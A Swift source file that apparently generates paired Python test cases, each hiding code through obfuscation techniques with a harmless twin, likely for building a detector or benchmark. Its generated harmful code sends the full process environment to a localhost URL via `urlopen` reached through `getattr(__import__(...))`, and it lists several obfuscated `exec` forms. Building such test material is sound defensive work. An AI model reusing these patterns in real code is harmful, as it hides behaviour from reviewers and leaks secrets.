/// Python code with what it needs beside it.
package struct Code: Sendable {
  /// The source of the module that is to run.
  package var main: String
  /// Further members, relative to the folder the module lies in.
  package var files: [(path: String, data: [UInt8])]
  /// Whether `main` can run anywhere; otherwise it is the `__init__` of a package, with a name, a file and globals of
  /// its own.
  package var standsAnywhere: Bool

  package init(_ main: String, files: [(path: String, data: [UInt8])] = [], standsAnywhere: Bool = false) {
    self.main = main
    self.files = files
    self.standsAnywhere = standsAnywhere && files.isEmpty
  }
}

/// What a technique works with: names of its own, the code to hide, and whether the harmful one is asked for.
package struct Plot: Sendable {
  package var scene: Scene
  /// Statements.
  package let body: String
  /// The same in one expression.
  package let expression: String
  /// The package that the code lies in.
  package let home: String
  /// False for the twin.
  package let isHarmful: Bool
}

/// One way to hide what code does.
package struct Technique: Sendable {
  /// What a twin does with the hidden code.
  package enum Twin: Sendable {
    /// It hides harmless code in the same way, and runs that.
    case harmlessCode
    /// It has the harmful code, and the technique itself keeps it from running.
    case idle
  }

  /// A few words; a case's name is made of it and its family's.
  package let name: String
  package let twin: Twin
  /// The only way to start its code; nil for one that the seed chooses.
  package let placement: Placement?
  package let make: @Sendable (inout Plot) -> Code

  package init(
    _ name: String, twin: Twin = .harmlessCode, placement: Placement? = nil,
    _ make: @escaping @Sendable (inout Plot) -> Code
  ) {
    self.name = name
    self.twin = twin
    self.placement = placement
    self.make = make
  }

  /// A technique that keeps the code as text: `make` gives preparing statements and an expression of the text.
  ///
  /// The harmful one runs the text in one of several ways; its twin does so with harmless code, or takes the same
  /// harmful text for data.
  package static func text(
    _ name: String, _ make: @escaping @Sendable (inout Scene, String) -> (setup: String, text: String)
  ) -> [Technique] {
    [
      Technique(name) { plot in
        let (setup, text) = make(&plot.scene, plot.body)
        return Code(setup + "\n" + run(text, &plot.scene), standsAnywhere: true)
      },
      Technique(name + ", taken for data", twin: .idle) { plot in
        let (setup, text) = make(&plot.scene, plot.body)
        let name = plot.scene.word()
        let use = plot.isHarmful ? "exec(\(name))" : "\(name)_size = len(\(name))"
        return Code(setup + "\n\(name) = \(text)\n\(use)\n", standsAnywhere: true)
      },
    ]
  }

  /// One of the ways to run a text of statements, as a statement.
  package static func run(_ text: String, _ scene: inout Scene) -> String {
    let name = scene.word()
    return scene.pick([
      "exec(\(text))", "exec(compile(\(text), \"<string>\", \"exec\"))", "\(name) = \(text)\nexec(\(name), {})",
      "eval(compile(\(text), \"\(name)\", \"exec\"))", "getattr(__import__(\"builtins\"), \"exec\")(\(text))",
      "(lambda \(name): exec(\(name)))(\(text))", "import builtins\nbuiltins.exec(\(text))",
      "\(name) = {\"__name__\": \"\(name)\"}\nexec(\(text), \(name))",
    ]) + "\n"
  }

  /// A technique that hides names: `make` gives preparing statements and an expression of a text.
  package static func names(
    _ name: String, _ make: @escaping @Sendable (inout Scene, String) -> (setup: String, text: String)
  ) -> Technique {
    access(name) { scene, module, attribute in
      let (first, moduleText) = make(&scene, module)
      let (second, attributeText) = make(&scene, attribute)
      let top = module.contains(".") ? ", fromlist=[\"\"]" : ""
      return ("\(first)\n\(second)", "getattr(__import__(\(moduleText)\(top)), \(attributeText))")
    }
  }

  /// A technique that hides which attribute of which module is meant.
  package static func access(
    _ name: String,
    _ make:
      @escaping @Sendable (inout Scene, _ module: String, _ attribute: String) -> (
        setup: String, expression: String
      )
  ) -> Technique {
    Technique(name) { plot in
      let (first, environment) = make(&plot.scene, "os", "environ")
      let (second, open) = make(&plot.scene, "urllib.request", "urlopen")
      let (box, send) = (plot.scene.word(), plot.scene.word())
      let url = "http://127.0.0.1:\(plot.scene.pick(Scene.ports))/\(plot.scene.word())"
      let head = "\(first)\n\(second)\n\(box) = \(environment)\n\(send) = \(open)\n"
      guard plot.isHarmful else {
        return Code(
          head + "\(box) = (\(box).get(\"LANG\"), \"\(url)\", \(send).__name__.encode())\n")
      }
      return Code(head + "\(send)(\"\(url)\", repr(dict(\(box))).encode())\n")
    }
  }

  /// A technique that decides when code runs: `run` has the place that does, `idle` the same without it. Both have the
  /// harmful code in them; `{body}` stands for it, moved to its column.
  package static func frame(
    _ name: String, run: @escaping @Sendable (inout Scene) -> String,
    idle: @escaping @Sendable (inout Scene) -> String
  ) -> Technique {
    Technique(name, twin: .idle) { plot in
      let frame = plot.isHarmful ? run(&plot.scene) : idle(&plot.scene)
      return Code(fill(frame, with: plot.body))
    }
  }

  /// Puts code where `{body}` stands, line by line at its column.
  package static func fill(_ frame: String, with body: String) -> String {
    frame.split(separator: "\n", omittingEmptySubsequences: false).map { line -> String in
      let column = line.prefix { $0 == " " }.count
      return line.dropFirst(column) == "{body}" ? body.indented(column) : String(line)
    }.joined(separator: "\n") + "\n"
  }
}

/// Techniques of one kind: a file of its own, and one line in `Families.all`.
package struct Family: Sendable {
  package let name: String
  package let techniques: [Technique]
}
